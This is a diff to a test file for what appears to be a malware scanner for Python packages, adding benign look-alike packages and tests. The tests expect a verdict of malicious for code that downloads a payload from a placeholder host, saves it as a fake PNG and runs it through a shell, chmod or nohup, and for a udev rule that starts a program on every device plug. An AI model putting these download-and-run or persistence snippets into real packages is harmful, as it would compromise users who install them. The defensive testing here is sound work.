@@ -561,6 +561,80 @@ _TWINS: dict[str, tuple[str, Mapping[str, str]]] = {
             """
         },
     ),
+    "a picture that an answer holds is kept and shown": (
+        WHEEL,
+        {
+            INIT: """
+            import base64, os, requests, subprocess, sys
+
+            def draw(text, key):
+                headers = {"Authorization": "Bearer " + key}
+                answer = requests.post("https://api.pictures.example.invalid/v1", json={"p": text}, headers=headers)
+                with open("picture.png", "wb") as out:
+                    out.write(base64.b64decode(answer.json()["data"]))
+                if sys.platform == "win32":
+                    os.startfile("picture.png")
+                else:
+                    subprocess.run(["xdg-open", "picture.png"])
+            """
+        },
+    ),
+    "a program that comes packed is unpacked, kept and run when it is needed": (
+        WHEEL,
+        {
+            INIT: """
+            import gzip, os, requests, subprocess, sys
+
+            PROGRAM = os.path.expanduser("~/.cache/example/tool")
+            PLACE = "https://code.example.invalid/owner/tool/releases/download/v1.0/tool-linux-x64.gz"
+
+            def ready():
+                if not os.path.exists(PROGRAM):
+                    with open(PROGRAM, "wb") as out:
+                        out.write(gzip.decompress(requests.get(PLACE).content))
+                    os.chmod(PROGRAM, 0o755)
+                return PROGRAM
+
+            def main():
+                sys.exit(subprocess.call([ready(), *sys.argv[1:]]))
+            """
+        },
+    ),
+    "a library's source of which the digest stands in the code is fetched, compared and built": (
+        SDIST,
+        {
+            "setup.py": """
+            from setuptools import setup
+            from setuptools.command.build_ext import build_ext
+            import library
+
+            class Build(build_ext):
+                def run(self):
+                    library.build()
+                    build_ext.run(self)
+
+            setup(name="example-pkg", version="1.0", cmdclass={"build_ext": Build})
+            """,
+            "library.py": f"""
+            import hashlib, io, os, subprocess, tarfile, urllib.request
+
+            DIGEST = "{"5e" * 32}"
+
+            def fetched(place):
+                data = urllib.request.urlopen(place).read()
+                if hashlib.sha256(data).hexdigest() != DIGEST:
+                    raise SystemExit("another file than the one that was chosen")
+                return data
+
+            def build():
+                data = fetched("https://downloads.example.invalid/libfoo-2.6.tar.gz")
+                with tarfile.open(fileobj=io.BytesIO(data)) as archive:
+                    archive.extractall("build")
+                subprocess.check_call(["./configure", "--disable-shared"], cwd="build/libfoo-2.6")
+                subprocess.check_call(["make"], cwd="build/libfoo-2.6")
+            """,
+        },
+    ),
     "a count of users, by what a hash makes of the machine's number": (
         WHEEL,
         {
@@ -690,6 +764,29 @@ class Build(build_ext):
 
 setup(name="example-pkg", version="1.0", cmdclass={{"build_ext": Build}})
 """
+_CALLED = (
+    "import base64, os, requests, subprocess, sys\ndata = base64.b64decode(requests.get('https://stage.example.invalid/a').text)\n"
+    "with open('/tmp/a.png', 'wb') as out:\n    out.write(data)\n"
+)
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "subprocess.run([sys.executable, '/tmp/a.png'])",
+        "subprocess.run('cat /tmp/a.png | sh', shell=True)",
+        "os.system('chmod +x /tmp/a.png && /tmp/a.png')",
+        "os.system('cp /tmp/a.png /tmp/a; /tmp/a')",
+        "os.system('nohup /tmp/a.png')",
+        "subprocess.run(['/tmp/a.png'])",
+    ],
+)
+def test_a_picture_that_is_run_is_a_program(command: str) -> None:
+    """What a file is called says nothing where it, or an interpreter with it, is started."""
+    report = screen_bytes(pack({INIT: _CALLED + command}, WHEEL), filename=WHEEL)
+    assert report.verdict is Verdict.MALICIOUS
+
+
 _DIGEST = "assert __import__('hashlib').sha256(open('libfoo.tar.gz', 'rb').read()).hexdigest() == '" + "0" * 64 + "'"
 
 
@@ -726,6 +823,14 @@ def test_a_line_for_the_shell_that_only_sets_is_held_and_not_blocked(line: str, 
     """Completion that nobody asked for is bad manners; what starts something else at every log-in is proven."""
     source = f"import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write({line + chr(10)!r})\n"
     assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is verdict
+
+
+def test_rules_for_devices_are_held_unless_they_start_a_program() -> None:
+    """Drivers put them there without being asked, which a person should see; a program at every plug is proven."""
+    source = "import shutil\nshutil.copy('99-example.rules', '/etc/udev/rules.d/99-example.rules')\n"
+    assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is Verdict.SUSPICIOUS
+    source = "open('/etc/udev/rules.d/9.rules', 'w').write('ACTION==\"add\", RUN+=\"/opt/example/run\"')\n"
+    assert screen_bytes(pack({"setup.py": source}, SDIST), filename=SDIST).verdict is Verdict.MALICIOUS
 
 
 @pytest.mark.parametrize(
